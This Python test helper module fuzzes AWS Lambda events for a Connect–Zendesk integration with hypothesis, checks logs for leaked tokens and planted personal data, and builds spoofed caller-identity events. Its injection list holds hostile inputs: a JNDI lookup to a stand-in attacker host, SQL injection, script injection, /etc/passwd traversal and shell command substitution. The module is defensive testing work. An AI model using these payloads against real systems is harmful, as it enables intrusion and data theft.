"""Property-based fuzzing of Lambda events: samples mutated by hypothesis, and the leak checks.

Seeds are the project's own samples (`events/<function>/*.json`) and, when the folder is beside the
checkout, the public reference events. A mutated event is a seed with a few changes at random places,
also inside the JSON carried in an SQS body or the base64 JSON of a Kinesis record: a value replaced
by null, a wrong type, a huge string, Japanese/Korean/emoji text, an injection string, a planted
phone number/email, deep nesting (up to 100,000 levels as text) or a non-finite number (NaN,
Infinity); a key removed; an unknown key added (sometimes named like PII); a list emptied.
Now and then the whole event is replaced by arbitrary JSON.

`keyed_in_numbers` and `spoofed_sessions` make identity claims instead: a contact-flow event whose
`phoneNumber` is another customer's number, and a Lex event whose session attributes and slots claim
another customer (number, ticket ids, user id, orders); their tests assert the promise (nothing of that
customer read, spoken, written or changed), not only that nothing crashed.

`fuzz` runs a check over at least FUZZ_EXAMPLES events (500 unless the environment says otherwise)
and fails if hypothesis ran fewer; `captured_logs` records exactly what the function's Powertools
handler writes (after PII scrubbing); `assert_no_leak` looks in it for the secret, the planted
phone numbers and emails and the caller's name.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import copy
import io
import json
import os
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from connect_zendesk.observability import logger
from connect_zendesk_local.cfn_template import PROJECT_ROOT
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import reference_events

FUZZ_EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "500"))
UNIT_SECRET = "unit-test-token"  # the Zendesk API token the `aws` fixture stores in Secrets Manager

# Planted personal data: each formatted the way callers and Zendesk write numbers. Digits only, no
# separators, is how a leak is found whatever formatting the code applied.
PLANTED_PHONES = (
    "+14155552671",
    "+14155550199",
    "+81 90-1234-5678",
    "(415) 555-0177",
    "+82 10-9876-5432",
    "+8613812345678",
)
PLANTED_EMAILS = ("fuzz.victim@example.jp", "kim.minji@example.kr")
SECRET_LOOKALIKES = (UNIT_SECRET,)

INJECTIONS = (
    "' OR '1'='1' --",
    "*) OR role:admin phone:*",
    "requester:* type:user",
    "<script>alert(1)</script>",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}${7*7}",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "\x00\x01\x1b[31m",
    "line\r\nX-Injected: yes",
    "$(id); `id`",
    "__proto__",
    '\\u0000\\"}',
    "1e309",
    "NaN",
    "-0",
)
UNICODE = (
    "注文の状況を知りたいです。チケット番号は１２３です",
    "주문 상태를 알고 싶어요, 상담원 연결해 주세요",
    "我想查询我的订单",
    "😀🔥👍🏽📞🇯🇵",
    "\u202eevil\u202c",
    "ｆｕｌｌｗｉｄｔｈ１２３",
    "e\u0301\u0308",
    "\ud7ff\ue000\ufffd",
)

_json_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=40),
)
_json_value = st.recursive(
    _json_scalar,
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=12,
)
_huge_string = st.builds(
    lambda unit, size: (unit * (size // len(unit) + 1))[:size],
    st.sampled_from(["x", "9", "📞", "あ", "한", "<>", "+1"]),
    st.sampled_from([5_000, 40_000, 300_000]),
)
_planted = st.sampled_from(PLANTED_PHONES + PLANTED_EMAILS)


@dataclass(frozen=True)
class Deep:
    """Nesting `depth` deep. In an event it becomes nested lists and objects (the Lambda runtime's
    own json.loads stops near 1,000 levels, so no deeper ones arrive decoded); inside an embedded
    document (an SQS body, Kinesis data) it becomes raw JSON text, up to 100,000 levels."""

    depth: int
    opener: str  # "[" or '{"k":'

    def value(self) -> Any:
        nested: Any = 0
        for _ in range(min(self.depth, MAX_DECODED_DEPTH)):
            nested = [nested] if self.opener == "[" else {"k": nested}
        return nested

    def text(self) -> str:
        closer = "]" if self.opener == "[" else "}"
        return self.opener * self.depth + "0" + closer * self.depth


MAX_DECODED_DEPTH = 900
# Deep nesting: past every limit the decoder sets (32), past the interpreter's recursion limit, and
# far past json.loads' own (RecursionError at ~1,000 for text).
deep_nesting = st.builds(Deep, st.sampled_from([33, 900, 5_000, 100_000]), st.sampled_from(["[", '{"k":']))
# Non-finite numbers: json.dumps writes NaN/Infinity, json.loads reads them (and 1e400 as infinity);
# DynamoDB stream images carry them as {"N": "NaN"}.
non_finite_numbers = st.one_of(
    st.sampled_from([float("nan"), float("inf"), float("-inf")]),
    st.sampled_from(["NaN", "Infinity", "-Infinity", "1e400"]).map(lambda n: {"N": n}),  # a fresh dict
)
nasty_values = st.one_of(
    deep_nesting,
    non_finite_numbers,
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(["", " ", "0", "-1", "null", "true", "[]", "{}"]),
    st.sampled_from(INJECTIONS),
    st.sampled_from(UNICODE),
    _planted,
    _huge_string,
    st.text(max_size=60),
    st.builds(list),  # fresh containers: a later mutation must not change an earlier draw
    st.builds(dict),
    _json_value,
)
_unknown_keys = st.one_of(
    st.sampled_from(["__proto__", "constructor", "", "💥", "キー", *PLANTED_PHONES[1:3], PLANTED_EMAILS[0]]),
    st.text(max_size=20),
)


# ---------------------------------------------------------------------------- seeds
def load_json(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def project_samples(function: str) -> list[Any]:
    return [load_json(p) for p in sorted((PROJECT_ROOT / "events" / function).glob("*.json"))]


def reference_samples(*patterns: str) -> list[Any]:
    """Public reference events, when the folder exists (an empty list otherwise)."""
    return [load_json(p) for pattern in patterns for p in reference_events(pattern)]


# ---------------------------------------------------------------------------- mutation
@dataclass
class Embedded:
    """JSON carried inside a string (an SQS body, base64 Kinesis data), mutated as a document."""

    document: Any
    base64: bool

    def encode(self) -> str:
        deep: list[Deep] = []
        text = json.dumps(encode(self.document, deep), ensure_ascii=False)  # NaN stays NaN (allow_nan)
        for index, nesting in enumerate(deep):  # placeholders become raw text json.dumps cannot write
            text = text.replace(json.dumps(_placeholder(index)), nesting.text(), 1)
        return base64.b64encode(text.encode("utf-8")).decode("ascii") if self.base64 else text


def _placeholder(index: int) -> str:
    return f"\x00deep-nesting-{index}\x00"


def decode(value: Any) -> Any:
    """The event with embedded JSON documents opened up (see Embedded)."""
    if isinstance(value, dict):
        return {k: decode(v) for k, v in value.items()}
    if isinstance(value, list):
        return [decode(v) for v in value]
    if isinstance(value, str) and len(value) > 2:
        if value[0] in "{[":
            with contextlib.suppress(ValueError):
                return Embedded(decode(json.loads(value)), base64=False)
        elif re.fullmatch(r"[A-Za-z0-9+/]+=*", value) and len(value) % 4 == 0:
            with contextlib.suppress(ValueError, binascii.Error, UnicodeDecodeError):
                document = json.loads(base64.b64decode(value, validate=True).decode("utf-8"))
                if isinstance(document, (dict, list)):
                    return Embedded(decode(document), base64=True)
    return value


def encode(value: Any, deep: list[Deep] | None = None) -> Any:
    """The event as Lambda delivers it; inside an embedded document (`deep` given) Deep values are
    collected and left as placeholders for Embedded.encode."""
    if isinstance(value, Embedded):
        return value.encode()
    if isinstance(value, Deep):
        if deep is None:
            return value.value()
        deep.append(value)
        return _placeholder(len(deep) - 1)
    if isinstance(value, dict):
        return {k: encode(v, deep) for k, v in value.items()}
    if isinstance(value, list):
        return [encode(v, deep) for v in value]
    return value


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    """(container, key) of every value below `value`, embedded documents included."""
    if isinstance(value, Embedded):
        yield from _places(value.document)
        return
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in items:
        yield value, key
        yield from _places(child)


@st.composite
def mutated(draw: st.DrawFn, seeds: list[Any]) -> Any:
    """A seed with one to four changes, or (one time in twenty) arbitrary JSON."""
    if draw(st.integers(0, 19)) == 0:
        return encode(draw(st.one_of(_json_value, nasty_values)))
    root = {"event": decode(copy.deepcopy(draw(st.sampled_from(seeds))))}
    for _ in range(draw(st.integers(1, 4))):
        places = list(_places(root))
        container, key = draw(st.sampled_from(places))
        action = draw(st.sampled_from(["replace", "replace", "replace", "remove", "add", "empty"]))
        target = container[key]
        if isinstance(target, Embedded):
            target = target.document
        if action == "remove" and isinstance(container, dict) and container is not root:
            del container[key]
        elif action == "add" and isinstance(target, dict):
            target[draw(_unknown_keys)] = draw(nasty_values)
        elif action == "empty" and isinstance(target, (dict, list)):
            target.clear()
        else:
            container[key] = draw(nasty_values)
    return encode(root["event"])


def events_for(seeds: list[Any]) -> st.SearchStrategy[Any]:
    assert seeds, "no seed events"
    return mutated(seeds)


# ---------------------------------------------------------------------------- running and checking
def fuzz(strategy: st.SearchStrategy[Any], check: Callable[[Any], None]) -> int:
    """Run `check` over at least FUZZ_EXAMPLES generated events; returns how many ran."""
    ran = 0

    @settings(
        max_examples=FUZZ_EXAMPLES,
        deadline=None,
        database=None,  # a fixed run per seed; failures print their reproduction blob
        print_blob=True,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )
    @given(strategy)
    def run(event: Any) -> None:
        nonlocal ran
        ran += 1
        check(event)

    run()
    assert ran >= FUZZ_EXAMPLES, f"hypothesis ran {ran} events, fewer than {FUZZ_EXAMPLES}"
    return ran


@contextlib.contextmanager
def captured_logs() -> Iterator[io.StringIO]:
    """What the function writes to CloudWatch: the Powertools handler's stream, after scrubbing."""
    handler = logger.registered_handler
    buffer = io.StringIO()
    previous = handler.setStream(buffer)  # type: ignore[attr-defined]
    try:
        yield buffer
    finally:
        handler.setStream(previous)  # type: ignore[attr-defined]


_SEPARATORS = re.compile(r"[\s().+\-]")


def _digits(text: str) -> str:
    return re.sub(r"\D", "", text)


def leaks(text: str, *, names: tuple[str, ...] = ()) -> list[str]:
    """Secrets, planted phone numbers (in any formatting), planted emails and names found in `text`."""
    found = [s for s in SECRET_LOOKALIKES if s in text]
    compact = _SEPARATORS.sub("", text)
    for phone in PLANTED_PHONES:
        digits = _digits(phone)
        national = digits[-9:]  # without the country code and trunk prefix: still dialable
        if national in compact:
            found.append(phone)
    lowered = text.lower()
    found += [email for email in PLANTED_EMAILS if email.split("@")[0] in lowered]
    found += [name for name in names if name in text]
    return found


def assert_no_leak(logs: str, response: Any = None, *, names: tuple[str, ...] = ()) -> None:
    assert not leaks(logs, names=names), f"logged: {leaks(logs, names=names)}"
    if response is not None:
        answer = json.dumps(response, ensure_ascii=False, default=str)
        assert not [s for s in SECRET_LOOKALIKES if s in answer], "the secret is in the response"


def log_records(logs: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in logs.splitlines() if line.startswith('{"level"')]


def assert_no_unexpected_failure(logs: str) -> None:
    """Bad input is a rejected event or a failed record, never a crash inside the code."""
    crashes = [
        str(record.get("exception", ""))[-800:]
        for record in log_records(logs)
        if "unexpected failure" in str(record.get("message")) or record.get("level") == "CRITICAL"
    ]
    assert not crashes, "\n".join(crashes)


# ---------------------------------------------------------------------------- identity claims
def phone_formats(e164: str) -> list[str]:
    """A US number as callers key it in and flows pass it: E.164, national, dotted, spaced, bare."""
    digits = e164[2:]
    area, exchange, line = digits[:3], digits[3:6], digits[6:]
    return [
        e164,
        f"({area}) {exchange}-{line}",
        f"{area}.{exchange}.{line}",
        f"+1 {area} {exchange} {line}",
        digits,
        f"1-{area}-{exchange}-{line}",
    ]


@st.composite
def keyed_in_numbers(
    draw: st.DrawFn, seeds: list[Any], victim_e164: str, victim_user_id: int, callers: list[str | None]
) -> Any:
    """A contact-flow event from some caller (a seeded customer, an unknown or withheld number, none)
    whose `phoneNumber` parameter is the victim's number in some format, sometimes with the victim's
    user id claimed as well, and one time in four mutated further."""
    event = copy.deepcopy(draw(st.sampled_from(seeds)))
    details = event.setdefault("Details", {})
    contact = details.setdefault("ContactData", {})
    caller = draw(st.sampled_from(callers))
    contact["CustomerEndpoint"] = None if caller is None else {"Address": caller, "Type": "TELEPHONE_NUMBER"}
    parameters = details["Parameters"] = {"phoneNumber": draw(st.sampled_from(phone_formats(victim_e164)))}
    if draw(st.booleans()):
        where = parameters if draw(st.booleans()) else contact.setdefault("Attributes", {})
        where["zendeskUserId"] = str(victim_user_id)
    return draw(mutated([event])) if draw(st.integers(0, 3)) == 0 else event


def _slot(value: str) -> dict[str, Any]:
    return {"value": {"originalValue": value, "interpretedValue": value, "resolvedValues": []}}


@st.composite
def spoofed_sessions(
    draw: st.DrawFn,
    seeds: list[Any],
    victim_e164: str,
    claims: dict[str, list[str]],
    slot_claims: dict[str, list[str]],
    contacts: list[str],
) -> Any:
    """A Lex event whose session attributes claim the victim: their number (in some format) and the
    `claims` (ticket ids, user id), on a contact drawn from `contacts` (the attacker's own, the
    victim's, one without a record), spoken, keyed or typed; slots named in `slot_claims` (ticket and
    order numbers) sometimes name the victim's."""
    event = copy.deepcopy(draw(st.sampled_from(seeds)))
    state = event.setdefault("sessionState", {})
    attributes = state["sessionAttributes"] = dict(state.get("sessionAttributes") or {})
    attributes["contactId"] = event["sessionId"] = draw(st.sampled_from(contacts))
    if draw(st.integers(0, 4)):
        attributes["callerNumber"] = draw(st.sampled_from(phone_formats(victim_e164)))
    else:
        attributes.pop("callerNumber", None)
    for name, values in claims.items():
        if draw(st.booleans()):
            attributes[name] = draw(st.sampled_from(values))
    event["inputMode"] = draw(st.sampled_from(["Speech", "DTMF", "Text"]))
    intent = state.get("intent")
    slots = intent.get("slots") if isinstance(intent, dict) else None
    if isinstance(slots, dict):
        for slot, values in slot_claims.items():
            if slot in slots and draw(st.booleans()):
                slots[slot] = _slot(draw(st.sampled_from(values)))
    return event
